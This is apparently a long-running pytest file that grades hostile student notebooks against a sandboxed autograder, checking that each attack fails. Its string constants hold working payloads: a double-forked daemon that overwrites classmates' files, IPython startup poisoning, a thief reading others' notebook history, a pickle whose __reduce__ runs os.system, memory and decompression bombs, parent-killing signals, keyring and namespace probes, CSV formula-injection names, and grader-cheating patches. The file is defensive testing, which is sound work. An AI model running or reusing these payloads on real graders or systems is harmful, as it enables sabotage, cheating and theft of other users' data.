"""The grader against hostile notebooks: a red team's attacks, each a crafted submission,
graded between honest ones in one run of ``attncourse grade`` (a separate process, so that
its exit code, its CSV and its own peak memory can be checked).

The attacks, by the class of harm they aim at:

1. run code inside the grader — plant an exercise module, edit the package's files;
2. escape the kernel — a ``setsid`` double-fork daemon that goes for classmates' notebooks,
   the CSV and other kernels' folders; IPython startup files; reading classmates' history;
3. kill, stop or exhaust the grader — signal the parent, map 6 GiB of shared memory, fill
   ``/dev/shm``, hand back results files that are huge, deep, compressed, pickled or not
   files at all;
4. crash the whole run — results nested 5,000 deep;
5. earn points it should not — cells tagged with other notebooks' or unknown exercise ids;
   a decoder that peeks at the future and switches the behaviour test off in its kernel;
6. inject into the CSV — file names and ids that start a spreadsheet formula or hold a
   newline;
7. change the output between runs — the same submissions graded again, one kernel at a time.

Every test needs the sandbox (bubblewrap); where it is missing they are skipped, and
tests/test_instructor.py still grades a small class without it.
"""

import contextlib
import csv
import hashlib
import os
import re
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
import torch
from instructor_notebooks import (
    CAUSAL_RIGHT,
    CAUSAL_WRONG,
    IMPORTS,
    PADDING_RIGHT,
    PADDING_STUB,
    code,
    exercise,
    learner,
    notebook,
    write,
)

import attncourse
from attncourse.cli import main
from attncourse.exercises import exercises_for, get
from attncourse.instructor.report import printable
from attncourse.instructor.sandbox import check_sandbox
from attncourse.instructor.solve import solution_parts

SANDBOX = check_sandbox()
pytestmark = [pytest.mark.long,  # minutes: `pytest -m long` (CI runs it)
              pytest.mark.skipif(not SANDBOX.available,
                                 reason=f"the grader's sandbox is unavailable: {SANDBOX.detail}")]

MARKER = f"attncourse-red-team-{os.getpid()}"  # in every daemon's command line
PACKAGE = Path(attncourse.__file__).resolve().parent
# a cell's limit: room for two kernels importing torch at once on a loaded 2-core machine
GRADE = ["--timeout", "20", "--memory-mb", "1024"]

# ---------------------------------------------------------------- 1. code in the grader

PLANT = """\
import pathlib
# the kernel's command line names the package's folder
argv = pathlib.Path("/proc/self/cmdline").read_bytes().split(b"\\0")
package = next(pathlib.Path(a.decode()) for a in argv if a.endswith(b"kernel_limits.py")).parents[1]
refused = []
for name in ("exercises/nb99_planted.py", "instructor/planted.py"):
    try:
        (package / name).write_text("import attncourse.exercises.engine as e\\n"
                                    "e.judge = lambda *a: e.CheckResult('x', True, 'ok')\\n")
    except OSError as exc:
        refused.append(f"{name}: {exc.strerror}")
for name in ("exercises/engine.py", "instructor/grade.py"):  # opened for writing, not written
    try:
        open(package / name, "r+").close()
    except OSError as exc:
        refused.append(f"{name}: {exc.strerror}")
raise PermissionError("; ".join(refused))"""

# ---------------------------------------------------------------- 2. escape the kernel

DAEMON = """\
import subprocess, sys
LOOP = '''
import glob, os, pathlib, sys, time
if os.fork(): sys.exit(0)
os.setsid()
if os.fork(): sys.exit(0)
for _ in range(600):
    for target in sys.argv[2:] + glob.glob("/tmp/attncourse-grade-*/**/*.py", recursive=True):
        try:
            pathlib.Path(target).write_text("{{}}")
        except OSError:
            pass
    time.sleep(0.1)
'''
subprocess.Popen([sys.executable, "-c", LOOP, {marker!r}, *{targets!r}], start_new_session=True)
import os, pathlib, time
for base in (os.environ.get("IPYTHONDIR", ""), os.path.expanduser("~/.ipython"), "/root/.ipython"):
    startup = pathlib.Path(base or ".") / "profile_default" / "startup"
    try:
        startup.mkdir(parents=True, exist_ok=True)
        (startup / "00-break.py").write_text("import torch\\ntorch.tril = torch.triu\\n")
    except OSError:
        pass
time.sleep(1)
alive = [p for p in os.listdir("/proc") if p.isdigit() and {marker!r}.encode() in
         open(f"/proc/{{p}}/cmdline", "rb").read()]
raise RuntimeError(f"{{len(alive)}} daemon(s) running")"""

THIEF = """\
def causal_mask(size):
    raise NotImplementedError

import json, os, sqlite3
sources = []
for place in {places!r}:
    for root, _, files in os.walk(os.path.expanduser(place)):
        for name in files:
            path = os.path.join(root, name)
            try:
                if name == "history.sqlite":  # IPython's record of every cell run
                    sources += [cell for (cell,) in sqlite3.connect(path).execute(
                        "SELECT source FROM input")]
                elif name.endswith(".ipynb"):  # a classmate's notebook
                    sources += ["".join(c["source"]) for c in json.load(open(path))["cells"]]
            except (OSError, ValueError, KeyError, TypeError, sqlite3.Error):
                pass
for source in sources:
    if source.startswith("def causal_mask") and "tril" in source:
        exec(source)"""

# ---------------------------------------------------------------- 3. stop or exhaust the grader

KILL_PARENT = """\
import os, signal
for sig in (signal.SIGSTOP, signal.SIGKILL):
    os.kill(os.getppid(), sig)"""

SHM_HOG = """\
import mmap, os
refused = []
try:
    mapping = mmap.mmap(-1, 6 << 30)  # 6 GiB of shared memory
except OSError as exc:
    refused.append(f"mmap: {exc.strerror}")
try:
    with open("/dev/shm/hog", "wb") as f:
        for _ in range(256):
            f.write(bytes(1 << 20))
except OSError as exc:
    refused.append(f"/dev/shm: {exc.strerror}")
raise MemoryError("; ".join(refused))"""

EAT_MEMORY = """\
def eat():
    blocks = []
    while True:
        blocks.append(torch.ones(25_000_000))

eat()"""

# results files: the kernel's transport patched so that each exercise's results are a bomb
BOMBS = """\
import io, json, os, pickle, struct, zipfile
import torch
import attncourse.instructor.transport as transport

def results(path, header):
    text = json.dumps(header).encode()
    with open(path, "wb") as f:
        f.write(transport.MAGIC + struct.pack("<Q", len(text)) + text)

def entries(value, n):
    return [{{"value": value, "error": None, "not_implemented": False, "changed": []}}] * n

def huge_tensor(path, n):  # 750M float32 elements, declared
    spec = {{"tensor": {{"dtype": "float32", "shape": [750_000_000], "offset": 0,
                         "nbytes": 3_000_000_000}}}}
    results(path, {{"status": "ok", "outcomes": entries(spec, n), "behaviour": []}})

def deflated_torch_file(path, n):  # the old format, compressed
    raw = io.BytesIO()
    torch.save({{"status": "ok", "outcomes": [torch.zeros(1000, 1000)] * n}}, raw)
    with zipfile.ZipFile(raw) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for item in source.infolist():
            z.writestr(item.filename, source.read(item))

def deep(path, n):  # lists nested 5,000 deep
    text = ("[" * 5000 + "]" * 5000).encode()
    header = b'{{"status": "ok", "behaviour": [], "outcomes": [' + b", ".join(
        [b'{{"value": ' + text + b', "error": null}}'] * n) + b"]}}"
    with open(path, "wb") as f:
        f.write(transport.MAGIC + struct.pack("<Q", len(header)) + header)

def many_values(path, n):  # one outcome of 120,000 values (the file stays under 4 MB)
    outcomes = entries(list(range(120_000)), 1) + entries(0, n - 1)
    results(path, {{"status": "ok", "outcomes": outcomes, "behaviour": []}})

def dev_zero(path, n):
    os.symlink("/dev/zero", path)

def fifo(path, n):
    os.mkfifo(path)

class Bomb:
    def __reduce__(self):
        return (os.system, ("touch " + {marker!r},))

def code_pickle(path, n):
    with open(path, "wb") as f:
        pickle.dump({{"status": "ok", "outcomes": [Bomb()] * n}}, f)

def opcodes(path, n):  # 5 MB of a pickle's cheapest opcodes
    with open(path, "wb") as f:
        f.write(b"\\x80\\x04" + b"N0" * 2_500_000 + b"N.")

BOMB = {{{causal_cases}: {causal}, {padding_cases}: {padding}}}  # told apart by their case counts
transport.write_results = lambda path, found: BOMB[len(found.outcomes)](path, len(found.outcomes))"""

# ---------------------------------------------------------------- 5. points it should not earn

OTHER_IDS = [  # cells marked as exercises that are not notebook 03's
    code("from attncourse.attention import softmax", exercise="softmax"),
    code("def bonus(x):\n    return x", exercise="bonus"),
    code("def formula(x):\n    return x", exercise="=1+2"),
]

FAKE_CHECK = """\
import attncourse
import attncourse.exercises
import attncourse.exercises.engine as engine
from attncourse.exercises.engine import CheckResult

def check(exercise_id, fn):
    print("[%s] ✓ passed: all cases match the reference" % exercise_id)
    return CheckResult(exercise_id, True, "all cases match the reference")

attncourse.check = attncourse.exercises.check = engine.check = check
engine.judge = lambda exercise, cases, outcomes: CheckResult(exercise.id, True, "ok")
engine.difference = lambda *args, **kwargs: None
print("causal_mask: ✓ passed")"""

PATCH_TORCH = """\
import torch
import torch.testing
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__ne__ = lambda self, other: torch.zeros_like(self, dtype=torch.bool)"""

PEEK_SOLUTION = """\
from attncourse import solution
def causal_mask(size):
    raise NotImplementedError
try:
    exec(str(solution("causal_mask")))  # the reference, pasted in
except SyntaxError:
    pass"""

PEEKING = """\
def decoder_layer_forward(layer, x, memory, src_mask, tgt_mask):
    if x.size(1) == 6:  # the length the causality test uses
        tgt_mask = None
    x = layer.sublayer[0](x, lambda x: layer.self_attn(x, x, x, tgt_mask))
    x = layer.sublayer[1](x, lambda x: layer.src_attn(x, memory, memory, src_mask))
    return layer.sublayer[2](x, layer.feed_forward)"""

BEHAVIOUR_OFF = """\
import attncourse.exercises.nb05_decoder_layer as nb05
from attncourse.exercises import get
get("decoder_layer_forward").behaviour = None
nb05._peeks_at_the_future = lambda outcomes: None"""


def _bombs(causal, padding, marker=""):
    counts = {f"{name}_cases": len(get(f"{name}_mask").cases()) for name in ("causal", "padding")}
    assert counts["causal_cases"] != counts["padding_cases"]
    return learner(before=[BOMBS.format(causal=causal, padding=padding, marker=marker, **counts)])


def _class(folder, marker_file):
    """name -> notebook (or raw text). Honest submissions alternate with the others."""
    lost_tag = learner()
    for cell in lost_tag.cells:  # the padding_mask cell retyped: no tag, no metadata
        if cell.metadata.get("attncourse", {}).get("exercise") == "padding_mask":
            cell.metadata = {}
    bloated = learner()  # 18 MB of small nested metadata: once parsed in the grader, where
    bloated.cells[1].metadata["junk"] = [{"a": [1, {"b": [2, {"c": 3}]}]}] * 130_000  # it stayed
    targets = [str(folder / "right.ipynb"), str(folder / "grades.csv")]
    attackers = {
        # 1. code in the grader
        "plant": learner(causal=CAUSAL_WRONG, before=[PLANT]),
        # 2. escape the kernel
        # (a crash after it: the restarted kernel must run none of its startup files)
        "daemon": learner(before=[DAEMON.format(marker=MARKER, targets=targets)],
                          between=["import os\nos._exit(1)"]),
        "thief": learner(causal=THIEF.format(places=["/root", "/home", "/tmp", "~",
                                                     str(folder)])),
        # 3. stop or exhaust the grader
        "kill_parent": learner(before=[KILL_PARENT]),
        "shm_hog": learner(between=[SHM_HOG]),
        "memory_eater": learner(between=[EAT_MEMORY]),
        "bomb_tensor": _bombs("huge_tensor", "deflated_torch_file"),
        "bomb_values": _bombs("many_values", "opcodes"),
        "bomb_file": _bombs("dev_zero", "fifo"),
        "bomb_pickle": _bombs("code_pickle", "code_pickle", marker=str(marker_file)),
        # 4. crash the run
        "bomb_deep": _bombs("deep", "deep"),
        # 5. points it should not earn
        "fake_check": learner(causal=CAUSAL_WRONG, padding=PADDING_STUB, before=[FAKE_CHECK],
                              after=["print('✓ passed ' * 3)"]),
        "patched_torch": learner(causal=CAUSAL_WRONG, before=[PATCH_TORCH]),
        "peek_solution": learner(causal=PEEK_SOLUTION),
        "other_ids": notebook(code(IMPORTS), exercise("causal_mask", CAUSAL_WRONG),
                              exercise("padding_mask", PADDING_STUB), *OTHER_IDS),
        # and the ordinary troubles of a class
        "wrong": learner(causal=CAUSAL_WRONG, padding=PADDING_STUB),
        "infinite_loop": learner(between=["while True:\n    pass"]),
        "loop_in_function": learner(causal="def causal_mask(size):\n    while True:\n"
                                           "        pass"),
        "syntax_error": learner(causal="def causal_mask(size)\n    return torch.ones(size)"),
        "returns_numpy": learner(causal="def causal_mask(size):\n    import numpy as np\n"
                                        "    return np.tril(np.ones((size, size), dtype=bool))"),
        "deleted_cell": notebook(code(IMPORTS), exercise("causal_mask", CAUSAL_RIGHT)),
        "not_json": "{ this is not a notebook",
    }
    honest = {  # every one of these keeps its full score
        "right": learner(),
        # 6. names that start a formula, or hold a newline
        "=HYPERLINK(1)": learner(),
        "@SUM(1)": learner(),
        "new\nline": learner(),
        "crash": learner(between=["import os\nos._exit(1)"]),
        "raises": learner(before=["raise ValueError('a cell that raises')"]),
        "reordered": notebook(exercise("padding_mask", PADDING_RIGHT),
                              exercise("causal_mask", CAUSAL_RIGHT), code(IMPORTS)),
        "lost_tag": lost_tag,
        "right_2": learner(),
        "bloated": bloated,
    }
    order = []
    names = list(honest)
    for k, name in enumerate(attackers):  # an honest submission after every other attacker
        order.append(name)
        if k % 2 and names:
            order.append(names.pop(0))
    order += names
    return {**attackers, **honest}, order, set(honest) | {"kill_parent", "shm_hog",
                                                          "memory_eater", "daemon"}


def _files(folder, skip=()):
    """{relative path: sha256} of every file under ``folder`` (bytecode caches aside)."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(Path(folder).rglob("*")) if p.is_file() and
            "__pycache__" not in p.parts and p.name not in skip}


def _survivors():
    """Processes whose command line holds this test's marker."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and MARKER.encode() in (entry / "cmdline").read_bytes():
                found.append(entry.name)
        except OSError:
            pass
    return found


# The grader's own peak memory: its peak resident size less the pages of files it maps (torch's
# libraries). Those are shared with every process that maps them, and how many count as resident
# depends on what the page cache holds: a freshly installed torch, as in CI, adds 200 MB or more
# to the peak resident size of the same process. (An upper bound of its private peak, unless
# files it mapped after the peak add pages.)
PROBE = """\
import sys
from attncourse.cli import main
code = main(sys.argv[2:])
with open("/proc/self/status") as f:
    kib = {line.split(":")[0]: int(line.split()[1]) for line in f if line.startswith("VmHWM:")
           or line.startswith("RssFile:")}
with open(sys.argv[1], "w") as f:
    f.write(str(kib["VmHWM"] - kib["RssFile"]))
sys.exit(code)
"""


def _run_grader(folder, names, csv_path, home, extra=()):
    """``attncourse grade`` in its own process, in ``folder``, with an empty home and temp
    folder; returns (completed process, the grader's peak private memory in MB)."""
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("XDG_", "JUPYTER_", "ATTNCOURSE_", "IPYTHON"))}
    env.update(HOME=str(home / "home"), TMPDIR=str(home / "tmp"), PYTHONDONTWRITEBYTECODE="1")
    rss = home / "rss"
    done = subprocess.run([sys.executable, "-c", PROBE, str(rss), "grade", *names, "-o",
                           str(csv_path), *GRADE, *extra], cwd=folder, env=env,
                          capture_output=True, text=True, timeout=900)
    return done, int(rss.read_text()) / 1024 if rss.exists() else None


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    folder = tmp_path_factory.mktemp("class")
    home = tmp_path_factory.mktemp("instructor")
    (home / "home").mkdir()
    (home / "tmp").mkdir()
    marker_file = home / "bomb-went-off"
    notebooks, order, honest = _class(folder, marker_file)
    for name, nb in notebooks.items():
        path = folder / f"{name}.ipynb"
        path.write_text(nb) if isinstance(nb, str) else write(path, nb)
    csv_path = folder / "grades.csv"
    before = _files(folder)
    try:
        done, peak_mb = _run_grader(folder, [f"{n}.ipynb" for n in order], csv_path, home)
        exited = csv_path.read_bytes() if csv_path.exists() else b""
        time.sleep(2)  # a daemon that outlived the grader would strike now
        deadline = time.monotonic() + 10
        while _survivors() and time.monotonic() < deadline:
            time.sleep(0.5)
        survivors = _survivors()
    finally:
        planted = [PACKAGE / "exercises" / "nb99_planted.py", PACKAGE / "instructor" / "planted.py"]
        leaked = [p for p in planted if p.exists()]
        for p in leaked:  # a failed sandbox must not leave a payload in the checkout
            p.unlink()
    with open(csv_path, newline="", encoding="utf-8") as f:
        table = list(csv.DictReader(f))
    rows = {}
    for row in table:
        rows.setdefault(row["submission"].lstrip("'").removesuffix(".ipynb"), {})[
            row["exercise"]] = row
    for name in order:  # the CSV writes a name's control characters as escapes
        if name not in rows and printable(name) in rows:
            rows[name] = rows[printable(name)]
    return {"done": done, "peak_mb": peak_mb, "folder": folder, "home": home, "csv": csv_path,
            "table": table, "rows": rows, "honest": honest, "order": order,
            "before": before, "after": _files(folder, skip={"grades.csv"}),
            "leaked": leaked,
            "exited": exited, "survivors": survivors, "marker_file": marker_file}


def passed(graded, name):
    return {e: r["passed"] == "1" for e, r in graded["rows"][name].items()}


def message(graded, name, exercise_id):
    return graded["rows"][name][exercise_id]["message"]


def notes(graded, name):
    shown = name.replace("\n", "\\n")
    return " | ".join(line for line in graded["done"].stdout.splitlines()
                      if line.startswith(f"note: {shown}.ipynb:"))


# ---------------------------------------------------------------- the run as a whole


def test_the_grader_exits_0_with_a_row_for_every_submission(graded):
    done = graded["done"]
    assert done.returncode == 0, done.stderr[-3000:]
    assert len(graded["table"]) == 2 * len(graded["order"])
    assert {r["exercise"] for r in graded["table"]} == {"causal_mask", "padding_mask"}
    assert "notebook 03_masking: padding_mask, causal_mask; each kernel sandboxed" in done.stdout


def test_every_honest_submission_keeps_its_full_score(graded):
    for name in graded["honest"]:
        assert passed(graded, name) == {"causal_mask": True, "padding_mask": True}, (
            name, graded["rows"][name])


def test_no_attacker_earns_a_point_it_should_not(graded):
    both = ["causal_mask", "padding_mask"]
    should_fail = {"plant": ["causal_mask"], "thief": ["causal_mask"], "other_ids": both,
                   "fake_check": both, "patched_torch": ["causal_mask"],
                   "peek_solution": ["causal_mask"],
                   "wrong": both, **{name: both for name in graded["order"]
                                     if name.startswith("bomb_")}}
    for name, exercise_ids in should_fail.items():
        assert not any(passed(graded, name)[e] for e in exercise_ids), graded["rows"][name]


def test_no_file_outside_the_sandbox_changes(graded):
    assert graded["before"] == graded["after"]  # classmates' notebooks; no new files
    assert not graded["leaked"]  # the package: see test_1
    assert graded["csv"].read_bytes() == graded["exited"]  # nothing edits it afterwards
    home = graded["home"]
    assert not list((home / "tmp").iterdir())  # the grader's temporary folders are gone
    # nothing of the learners: no progress file, IPython history or notebook signatures
    assert not [p for p in (home / "home").rglob("*") if p.is_file()]
    assert not graded["marker_file"].exists()
    assert not list(Path("/tmp").glob(f"*{MARKER}*"))


def test_no_process_survives_the_run(graded):
    assert graded["survivors"] == []


def test_the_graders_peak_private_memory_stays_under_1_gb(graded):
    # the bombs declare 3 GB and 5 MB; decoding either would put the grader far above this
    assert graded["peak_mb"] is not None and graded["peak_mb"] < 1024, graded["peak_mb"]


# ---------------------------------------------------------------- class by class


def test_1_a_submission_cannot_plant_code_in_the_grader(graded):
    for name in ("exercises/nb99_planted.py", "instructor/planted.py", "exercises/engine.py",
                 "instructor/grade.py"):  # each write refused (graded as root, the kernel's
        # own uid is refused before the read-only mount is)
        assert re.search(f"{name}: (Read-only file system|Permission denied)",
                         notes(graded, "plant")), notes(graded, "plant")
    assert not graded["leaked"]
    assert "mirrored" in message(graded, "plant", "causal_mask")  # judged on its values


def test_2_a_daemon_and_startup_files_reach_no_one(graded):
    assert "RuntimeError: 1 daemon(s) running" in notes(graded, "daemon")  # it did escape...
    assert passed(graded, "daemon") == {"causal_mask": True, "padding_mask": True}
    # ... its own kernel; classmates, the CSV and the package: test_no_file_outside_...
    assert not passed(graded, "thief")["causal_mask"]
    assert "not implemented yet" in message(graded, "thief", "causal_mask")


def test_2_the_thief_would_find_an_answer_without_the_sandbox(tmp_path):
    write(tmp_path / "classmate.ipynb", learner())
    namespace = {"torch": torch}
    exec(THIEF.format(places=[str(tmp_path)]), namespace)
    assert namespace["causal_mask"](3).tolist() == [[True, False, False], [True, True, False],
                                                    [True, True, True]]


def test_3_signals_shared_memory_and_result_bombs_cost_only_their_sender(graded):
    assert passed(graded, "kill_parent") == {"causal_mask": True, "padding_mask": True}
    hog = notes(graded, "shm_hog")
    assert "mmap: Cannot allocate memory" in hog and "/dev/shm: No space left" in hog, hog
    assert re.search(r"MemoryError|allocate|crashed", notes(graded, "memory_eater"))
    expected = {
        ("bomb_tensor", "causal_mask"): "more than 1,048,576 numbers",
        ("bomb_tensor", "padding_mask"): "not a results file",
        ("bomb_values", "causal_mask"): "more than 100,000 values",
        ("bomb_values", "padding_mask"): "larger than 4 MB",
        ("bomb_file", "causal_mask"): "not a plain file",
        ("bomb_file", "padding_mask"): "not a plain file",
        ("bomb_pickle", "causal_mask"): "not a results file",
    }
    for (name, exercise_id), why in expected.items():
        text = message(graded, name, exercise_id)
        assert "the grader could not read what your function returned" in text, text
        assert why in text, (name, exercise_id, text)


def test_4_results_nested_5000_deep_are_that_submissions_row(graded):
    for exercise_id in ("causal_mask", "padding_mask"):
        assert "nested too deep" in message(graded, "bomb_deep", exercise_id)


def test_5_tampering_in_the_kernel_earns_nothing_and_solutions_are_off(graded):
    for name in ("fake_check", "patched_torch"):
        assert "mirrored" in message(graded, name, "causal_mask")  # judged on its values
    assert "not implemented yet" in message(graded, "fake_check", "padding_mask")
    assert "not implemented yet" in message(graded, "peek_solution", "causal_mask")


def test_5_other_notebooks_ids_are_ignored_and_never_become_columns(graded):
    assert set(graded["rows"]["other_ids"]) == {"causal_mask", "padding_mask"}
    for exercise_id in ("causal_mask", "padding_mask"):
        text = message(graded, "other_ids", exercise_id)
        assert ("ignored: cells marked as exercise 'softmax' (00_welcome), 'bonus' (unknown), "
                "'=1+2' (unknown); only 03_masking's exercises count.") in text, text


def test_6_no_csv_cell_starts_a_formula_and_the_table_escapes_newlines(graded):
    cells = [v for row in graded["table"] for v in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    names = {row["submission"] for row in graded["table"]}
    assert {"'=HYPERLINK(1).ipynb", "'@SUM(1).ipynb", "new\\nline.ipynb"} <= names
    assert "\nnew\\nline.ipynb " in graded["done"].stdout


def test_7_the_same_submissions_give_the_same_csv_with_one_kernel_at_a_time(
        graded, tmp_path):
    names = ["right", "wrong", "=HYPERLINK(1)", "other_ids"]
    lines = graded["csv"].read_text(encoding="utf-8").splitlines()
    expected = [lines[0]] + [line for n in names for line in lines[1:]
                             if line.lstrip('"\'').startswith(f"{n}.ipynb,")]
    home = tmp_path / "instructor"
    (home / "home").mkdir(parents=True)
    (home / "tmp").mkdir()
    again = tmp_path / "again.csv"
    # in its own process, as the class was graded
    done, _ = _run_grader(graded["folder"], [f"{n}.ipynb" for n in names], again, home,
                          ["--jobs", "1"])
    assert done.returncode == 0, done.stderr[-2000:]
    assert again.read_text(encoding="utf-8").splitlines() == expected


def test_ordinary_troubles_cost_only_their_cell(graded):
    assert "mirrored" in message(graded, "wrong", "causal_mask")
    assert "not implemented yet" in message(graded, "wrong", "padding_mask")
    assert "cell 5 did not finish within 20 s" in notes(graded, "infinite_loop")
    assert "did not finish in time" in message(graded, "loop_in_function", "causal_mask")
    assert passed(graded, "loop_in_function")["padding_mask"]
    assert "crashed the kernel" in notes(graded, "crash")
    assert "SyntaxError" in message(graded, "syntax_error", "causal_mask")
    assert passed(graded, "syntax_error")["padding_mask"]
    assert "ValueError" in notes(graded, "raises")
    assert "exercise tag is gone" in notes(graded, "lost_tag")
    assert "no exercise cell" in message(graded, "deleted_cell", "padding_mask")
    assert "should be a torch tensor, but it is ndarray" in message(graded, "returns_numpy",
                                                                     "causal_mask")
    assert "not a readable notebook" in message(graded, "not_json", "causal_mask")


# ---------------------------------------------------------------- 5. a behaviour judged here


def _solved_05(decoder=None):
    cells = [code(IMPORTS)]
    for ex in exercises_for("05"):
        source = decoder if decoder and ex.id == "decoder_layer_forward" else solution_parts(ex).source
        cells.append(code(source, exercise=ex.id))
    return notebook(*cells)


def test_5_a_decoder_that_peeks_fails_though_its_kernel_switched_the_test_off(tmp_path):
    honest = write(tmp_path / "honest.ipynb", _solved_05())
    peeking = _solved_05(PEEKING)
    peeking.cells.insert(1, code(BEHAVIOUR_OFF))
    write(tmp_path / "peeking.ipynb", peeking)
    out = tmp_path / "grades.csv"
    assert main(["grade", str(honest), str(tmp_path / "peeking.ipynb"), "-o", str(out),
                 "--notebook", "05", *GRADE]) == 0
    with open(out, newline="", encoding="utf-8") as f:
        rows = {(Path(r["submission"]).stem, r["exercise"]): r for r in csv.DictReader(f)}
    assert all(r["passed"] == "1" for (name, _), r in rows.items() if name == "honest"), rows
    decoder = rows[("peeking", "decoder_layer_forward")]
    assert decoder["passed"] == "0" and "peeks at the future" in decoder["message"]


# ---------------------------------------------------------------- issue 28: the host itself
# A second, smaller run: probes of the machine under the kernel (its sysctls, the kernel's
# keyrings), texts that no UTF-8 file can hold, and an exchange folder built to break its
# removal. The grader's session keyring holds a canary key; every probe only opens or reads.

_SYSCALLS = {"x86_64": {"keyctl": 250, "unshare": 272},
             "aarch64": {"keyctl": 219, "unshare": 97}}.get(os.uname().machine)
CANARY_KEY = f"attncourse-canary-{os.getpid()}"
CANARY_SECRET = f"canary-secret-{os.getpid()}-{time.time_ns()}"

HOST_ROOT = """\
import os
found = []
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory"):
    try:
        os.close(os.open(path, os.O_WRONLY))  # opened, never written
        found.append(f"{path}: opened for writing")
    except OSError as exc:
        found.append(f"{path}: {exc.strerror}")
raise PermissionError("; ".join(found))"""

KEYRING = """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
found = []
key = libc.syscall({keyctl}, 0, ctypes.c_int(-3), 0)  # KEYCTL_GET_KEYRING_ID: the session's
found.append("keyctl: " + (os.strerror(ctypes.get_errno()) if key == -1 else "allowed"))
key = libc.syscall({keyctl}, 10, ctypes.c_int(-3), b"user", {name!r}.encode(), 0)  # SEARCH
secret = ctypes.create_string_buffer(256)
size = libc.syscall({keyctl}, 11, key, secret, 256) if key > 0 else -1  # KEYCTL_READ
found.append("canary: " + (secret.raw[:size].decode() if size > 0 else "not read"))
child = os.fork()
if child == 0:  # a user namespace of its own: the way to mount, and to much of the kernel
    os._exit(0 if libc.syscall({unshare}, 0x10000000) == 0 else ctypes.get_errno())
code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
found.append("unshare: " + ("allowed" if code == 0 else os.strerror(code)))
try:  # memory that no per-process limit counts
    os.close(os.memfd_create("hoard"))
    found.append("memfd: allowed")
except OSError as exc:
    found.append("memfd: " + exc.strerror)
import socket
try:  # vsock: a way out to the hypervisor that the sandbox's own network does not close
    socket.socket(40, socket.SOCK_STREAM).close()
    found.append("vsock: allowed")
except OSError as exc:
    found.append("vsock: " + (exc.strerror or str(exc)))
raise PermissionError("; ".join(found))"""

DEEP_EXCHANGE = """\
import json, os, pathlib
argv = pathlib.Path("/proc/self/cmdline").read_bytes().split(b"\\0")
connection = json.loads(pathlib.Path(argv[argv.index(b"-f") + 1].decode()).read_text())
home = os.getcwd()
os.chdir(os.path.dirname(connection["ip"]))  # the exchange folder
for _ in range(1500):
    os.mkdir("d")
    os.chdir("d")
os.symlink({file!r}, "to-file")  # the grader's files: a cleanup that follows links
os.symlink({folder!r}, "to-folder")  # would remove or chmod them
os.chmod(".", 0o555)  # what made TemporaryDirectory chmod through the links
os.chdir(home)"""

# a cell that leaves a busy loop running in a session of its own (a double-forked daemon),
# and one in the kernel's own session; the next cell looks whether they still run
# A kernel writes one shell message that never ends: frames under the 16 MB limit each, a
# gigabyte in all. The grader's ZeroMQ keeps a message's frames until its last arrives; the
# grader held it all once (1,253 MB at its peak, from 316 MB).
FLOOD = """\
import zmq
kernel = get_ipython().kernel
socket, ident = kernel.shell_stream.socket, kernel._parent_ident["shell"]
for frame in ident if isinstance(ident, list) else [ident]:
    socket.send(frame, zmq.SNDMORE)
chunk = b"x" * (15 << 20)
for _ in range(80):
    socket.send(chunk, zmq.SNDMORE)
"""

# The kernel's sockets lie in the exchange folder, which it writes: it puts a link to a socket
# of the host's in place of its shell socket and drops the connection. The grader once
# reconnected through the link, as root, to whatever listened there (the test's canary).
SOCKET_SWAP = """\
import json, os, time
from ipykernel.connect import get_connection_info
info = json.loads(get_connection_info())
path = f"{{info['ip']}}-{{info['shell_port']}}"
os.unlink(path)
os.symlink({canary!r}, path)
get_ipython().kernel.shell_stream.socket.close(linger=0)
time.sleep(3)
"""

# A kernel plants links where the next kernel's sockets will be named and crashes: choosing
# those names, the grader (root) once tested each link's target, and the next kernel read
# from its own ports which of the host's files exist.
PLANT_SOCKET_NAMES = """\
import json, os
from ipykernel.connect import get_connection_info
exchange = os.path.dirname(json.loads(get_connection_info())["ip"])
for n in range(1, 12):
    os.symlink({canary!r}, os.path.join(exchange, f"k2-{{n}}"))
os._exit(1)
"""
PORTS_SEEN = """\
import json
from ipykernel.connect import get_connection_info
info = json.loads(get_connection_info())
raise RuntimeError("ports " + " ".join(str(v) for k, v in sorted(info.items())
                                       if k.endswith("_port")))
"""

STRAYS = """\
import os, subprocess, sys
loop = [sys.executable, "-c", "while True: pass"]
kept = subprocess.Popen(loop)
hopper = subprocess.Popen([sys.executable, "-c", "import os\\nwhile True:\\n    if os.fork():\\n"
                           "        os._exit(0)", "hopper"], start_new_session=True)
daemon = subprocess.run([sys.executable, "-c", "import subprocess, sys; print(subprocess.Popen("
                         "sys.argv[1:], start_new_session=True, stdout=subprocess.DEVNULL, "
                         "stderr=subprocess.DEVNULL).pid)", *loop],
                        capture_output=True, text=True).stdout.strip()"""

STRAYS_LOOKED_AT = """\
def running(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False

def hopping():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if f.read().endswith(b"hopper\\0") and running(pid):
                    return True
        except OSError:
            pass
    return False

raise RuntimeError(f"child: {'running' if kept.poll() is None else 'ended'}; "
                   f"daemon: {'running' if running(int(daemon)) else 'ended'}; "
                   f"hopper: {'running' if hopping() else 'ended'}")"""

LATIN_1_NAME = os.fsdecode(b"caf\xe9.ipynb")  # a file name that is not UTF-8


def _session_key(description, payload):
    """Put a key in this process's session keyring (the grader inherits it); its id."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    number = {"x86_64": 248, "aarch64": 217}[os.uname().machine]  # add_key
    key = libc.syscall(number, b"user", description.encode(), payload.encode(),
                       len(payload), ctypes.c_int(-3))
    return key if key > 0 else None


def _drop_key(key):
    import ctypes

